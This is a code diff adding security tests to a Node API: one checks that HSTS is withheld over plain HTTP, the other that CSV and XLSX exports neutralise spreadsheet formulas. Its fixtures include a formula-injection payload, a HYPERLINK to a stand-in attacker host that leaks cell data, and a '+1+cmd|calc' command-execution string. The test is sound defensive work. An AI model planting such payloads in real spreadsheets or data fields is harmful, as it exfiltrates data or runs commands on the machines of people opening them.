@@ -9,6 +9,7 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { randomUUID } from 'node:crypto';
 import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
+import ExcelJS from 'exceljs';
 import { and, eq } from 'drizzle-orm';
 import { access_tokens, files, orders, users } from '../../src/db/schema/index.js';
 import { exportsDir } from '../../src/lib/table/exportTable.js';
@@ -53,6 +54,40 @@ describe('security headers', () => {
       expect(res.headers['referrer-policy']).toBe('no-referrer');
       expect(res.headers['x-powered-by']).toBeUndefined();
     }
+  });
+
+  it('sends no HSTS over plain HTTP, nor for an X-Forwarded-Proto no trusted proxy vouches for', async () => {
+    // HTTPS cases: test/plugins/external/helmet.test.ts.
+    for (const headers of [{}, { 'x-forwarded-proto': 'https' }]) {
+      const res = await t.request({ method: 'GET', url: '/api/health', headers });
+      expect(res.headers['strict-transport-security']).toBeUndefined();
+    }
+  });
+});
+
+describe('exports cannot carry formulas', () => {
+  it('neutralises a client named =HYPERLINK(…) in CSV and XLSX exports', async () => {
+    const admin = await t.login('admin@example.com');
+    const evil = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
+    // (Names are trimmed when saved, so tab and CR first are tried in test/lib/table/exportTable.test.ts.)
+    const names = [evil, '+1+cmd|calc', '-2+3', '@SUM(1)', 'Plain - name'];
+    for (const [i, name] of names.entries()) {
+      const res = await t.request({ method: 'POST', url: '/api/users', token: admin, payload: { name, email: `formula-${i}-${randomUUID()}@example.com`, password: 'password1', role: 'client' } });
+      expect(res.statusCode, res.body).toBe(200);
+    }
+    const exported = async (format: 'csv' | 'xlsx') => {
+      const res = await t.request({ method: 'POST', url: '/api/users/list/clients', token: admin, payload: { export: 1, format, titles: ['name'], filter_value: 'formula-' } });
+      return (await t.request({ method: 'GET', url: `/api/external-download?file=${res.json().file}` })).rawPayload;
+    };
+    const expected = ["'" + evil, "'+1+cmd|calc", "'-2+3", "'@SUM(1)", 'Plain - name'];
+    const csv = (await exported('csv')).toString('utf8');
+    for (const name of expected) expect(csv).toContain(name.includes('"') ? `"${name.replace(/"/g, '""')}"` : name);
+    expect(csv).not.toMatch(/^[=+\-@]/m);
+
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load((await exported('xlsx')) as unknown as ExcelJS.Buffer);
+    const cells = workbook.worksheets[0].getColumn(1).values.slice(2).map(String);
+    expect(cells.sort()).toEqual([...expected].sort());
   });
 });
 
